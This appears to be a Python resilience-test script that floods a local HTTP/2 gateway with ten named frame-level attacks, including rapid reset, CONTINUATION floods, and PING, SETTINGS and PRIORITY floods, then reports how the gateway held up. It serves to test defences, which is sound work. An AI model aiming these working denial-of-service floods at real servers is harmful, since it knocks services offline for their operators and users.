"""Floods a gateway over one HTTP/2 connection in the way that is named, frame by frame, and says what became of it."""

import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

port, chain, key, authorities, kind = sys.argv[1:]
context = ssl.create_default_context(cafile=authorities)
context.load_cert_chain(chain, key)
context.set_alpn_protocols(["h2"])
encoder = hpack.Encoder()


def asked(method="GET", path="/v1/destinations", more=()):
    return encoder.encode([(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *more])


def headers(stream, block, *flags):
    return HeadersFrame(stream, data=block, flags=flags or ("END_HEADERS", "END_STREAM")).serialize()


def data(stream, content=b""):
    return DataFrame(stream, data=content).serialize()


def streams():
    return range(1, 2**31 - 1, 2)


def rapid_reset():
    for stream in streams():
        yield headers(stream, asked()) + RstStreamFrame(stream, error_code=8).serialize()


def reset_by_the_gateway():
    for stream in streams():
        yield headers(stream, asked("POST", "/v1/transfers"), "END_HEADERS") + WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + bytes(4)


def continuation():
    yield headers(1, asked(), "END_STREAM")
    while True:
        yield ContinuationFrame(1, data=encoder.encode([("x-more", "y" * 4000)]) * 4).serialize()


def empty_continuation():
    yield headers(1, asked(), "END_STREAM")
    while True:
        yield ContinuationFrame(1).serialize() * 100


def empty_data():
    yield headers(1, asked("POST", "/v1/transfers", [("content-type", "application/json"), ("idempotency-key", "flood")]), "END_HEADERS")
    while True:
        yield data(1) * 100


def pings():
    while True:
        yield PingFrame(0, opaque_data=b"12345678").serialize() * 100


def settings():
    while True:
        yield SettingsFrame(0, settings={4: 65535}).serialize() * 100


def priorities():
    for stream in streams():
        yield PriorityFrame(stream, depends_on=0, stream_weight=1).serialize() * 100


def tiny_windows():
    yield SettingsFrame(0, settings={4: 1}).serialize()
    for stream in streams():
        yield headers(stream, asked(path="/openapi.json"))


def many_headers():
    for stream in streams():
        yield headers(stream, asked(more=[(f"x-{number}", "z" * 100) for number in range(100)]))


floods = {flood.__name__: flood for flood in (rapid_reset, reset_by_the_gateway, continuation, empty_continuation, empty_data,
                                              pings, settings, priorities, tiny_windows, many_headers)}
plain = socket.create_connection(("127.0.0.1", int(port)))
connection = context.wrap_socket(plain, server_hostname="localhost")
connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
connection.settimeout(1)
sent, ended, until = 0, "endured", time.monotonic() + 4
for frames in floods[kind]():
    try:
        # Nothing is read: whoever floods does not listen.
        connection.sendall(frames)
    except TimeoutError:
        ended = "held back"
        break
    except OSError:
        ended = "closed"
        break
    sent += len(frames)
    if time.monotonic() > until:
        break
print(json.dumps({"kind": kind, "bytes": sent, "ended": ended}))
